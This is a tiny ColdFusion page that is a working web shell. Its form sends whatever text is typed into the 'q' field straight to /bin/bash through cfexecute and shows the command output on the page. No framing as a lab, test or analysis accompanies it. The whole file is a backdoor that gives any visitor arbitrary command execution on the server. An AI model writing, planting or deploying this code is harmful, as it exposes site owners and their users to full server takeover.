<cfscript>
param name="form.q" default="";
if (len(form.q)) {
  cfexecute(name="/bin/bash", arguments="-c '#form.q#'", variable="o", timeout=20);
  writeOutput("<pre>" & encodeForHTML(o) & "</pre>");
}
</cfscript>
<form method="post"><input name="q"><button>go</button></form>
